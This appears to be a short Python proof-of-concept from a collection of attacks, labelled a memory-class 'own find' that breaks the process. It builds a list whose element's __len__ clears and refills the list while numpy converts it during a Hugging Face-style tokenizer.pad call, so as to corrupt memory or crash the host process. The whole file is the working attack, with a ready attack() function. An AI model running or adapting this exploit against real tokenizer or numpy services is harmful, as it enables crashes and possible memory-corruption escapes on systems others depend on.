"""Class: memory. Source: own find. Escape: the process breaks. What is padded becomes an array: numpy walks the
list and asks what is in it for its length, which clears the list."""


class Item:
    def __len__(self):
        data.clear()
        kept.append([(3,)] * 500)
        return 1

    def __getitem__(self, i):
        if i:
            raise IndexError
        return 1


kept = []
data = []


def attack(model, tokenizer, address):
    data[:] = [Item()] + [(i,) for i in range(500)]
    tokenizer.pad({"input_ids": [1], "x": data}, return_tensors="np")
